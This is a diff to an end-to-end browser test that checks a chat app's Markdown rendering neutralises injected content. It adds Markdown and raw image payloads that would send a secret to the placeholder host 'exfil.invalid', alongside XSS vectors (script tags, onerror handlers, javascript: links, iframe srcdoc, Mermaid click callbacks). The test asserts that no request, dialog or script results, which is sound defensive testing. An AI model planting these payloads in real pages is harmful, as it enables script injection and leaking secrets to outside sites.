@@ -3,12 +3,14 @@
  * against the stack started as `npm start` starts it. The same Markdown, carrying legitimate
  * formatting (bold, a table, a TypeScript block, a Mermaid diagram) and the usual injections
  * (`<script>`, `onerror`, a `javascript:` link, an iframe with `srcdoc`, an SVG with `onload`,
- * a Mermaid label with an `<img onerror>` and `click` callbacks), is written by a person in the
+ * a Mermaid label with an `<img onerror>` and `click` callbacks, and images on another site whose
+ * URLs would carry a secret there the moment they load), is written by a person in the
  * chat, by the tech lead in its reply, by a task as its summary and its question, and printed by
  * a task's command (tool output) and read back by the tech lead's tool (its card). Each place
  * shows the formatting rendered, and none runs the injected code: `window.__pwned` stays unset,
  * no dialog opens, and the page holds no `<script>`, iframe, `on*` attribute or `javascript:`
- * URL in what was rendered. A task that edited a file shows its diff file by file (removed and
+ * URL in what was rendered, and the browser asks the other site for nothing (its Markdown image is
+ * a link, its raw `<img>` has no `src`). A task that edited a file shows its diff file by file (removed and
  * added lines in diff2html's table). Screenshots are kept in test-artifacts/.
  */
 import { mkdirSync } from "node:fs";
@@ -32,6 +34,9 @@ const INJECTIONS = [
   '<a href="javascript:alert(1)" onclick="window.__pwned=1">plain link</a> <img src=x onerror="alert(1)"> <details open ontoggle="window.__pwned=1">x</details>',
 ].join("\n\n");
 
+/** The site an injected image would send a secret to (it never resolves; a request to it is what the test watches for). */
+const EXFIL_HOST = "exfil.invalid";
+
 /** Markdown with real formatting and every injection; `tag` tells the places apart. */
 function payload(tag: string): string {
   return [
@@ -41,11 +46,14 @@ function payload(tag: string): string {
     "```ts\nconst answer: number = 42;\n```",
     '```mermaid\ngraph TD\n  A["<img src=x onerror=window.__pwned=1>start"] --> B[done]\n  click A callback "tip"\n  click B "javascript:window.__pwned=1"\n```',
     INJECTIONS,
+    `![leak ${tag}](https://${EXFIL_HOST}/leak.png?secret=${tag}) <img src="https://${EXFIL_HOST}/raw.png?secret=${tag}" alt="raw ${tag}">`,
   ].join("\n\n");
 }
 
 let stack: Stack;
 let browser: Browser;
+/** Every request a watched page made to EXFIL_HOST. */
+const exfiltrations: string[] = [];
 
 beforeAll(async () => {
   mkdirSync(artifacts, { recursive: true });
@@ -62,6 +70,9 @@ afterAll(async () => {
 async function watchedPage(): Promise<{ page: Page; dialogs: string[] }> {
   const page = await signedInPage(browser, stack, { width: 1300, height: 1000 });
   const dialogs: string[] = [];
+  page.on("request", (request) => {
+    if (new URL(request.url()).hostname === EXFIL_HOST) exfiltrations.push(request.url());
+  });
   page.on("dialog", (dialog) => {
     dialogs.push(dialog.message());
     void dialog.dismiss();
@@ -102,6 +113,7 @@ async function expectClean(page: Page, dialogs: string[]): Promise<void> {
   }
   expect(await leftovers(page)).toEqual({ pwned: undefined, scripts: 0, iframes: 0, handlers: [], javascriptUrls: [] });
   expect(dialogs).toEqual([]);
+  expect(exfiltrations).toEqual([]);
 }
 
 /** The legitimate formatting rendered inside `scope` (a locator of one rendered Markdown block). */
@@ -112,6 +124,9 @@ async function expectFormatted(scope: ReturnType<Page["locator"]>, tag: string):
   await scope.locator(".mermaid-diagram svg").first().waitFor(LIVE);
   // The injected HTML is gone, not shown: no img with a handler, no iframe, no svg of the text's own.
   expect(await scope.locator("img[onerror], iframe, svg[onload], script").count()).toBe(0);
+  // Another site's images load nothing: the Markdown one is a link to follow, the raw one has no src.
+  expect(await scope.locator("a.render-image-link").evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([`https://${EXFIL_HOST}/leak.png?secret=${tag}`]);
+  expect(await scope.locator(`img[alt="raw ${tag}"]`).evaluateAll((images) => images.map((img) => img.getAttribute("src")))).toEqual([null]);
   // The `javascript:` link is left as text, without its URL.
   expect(await scope.locator("a", { hasText: "click me" }).evaluateAll((links) => links.map((a) => a.getAttribute("href")))).toEqual([null]);
 }
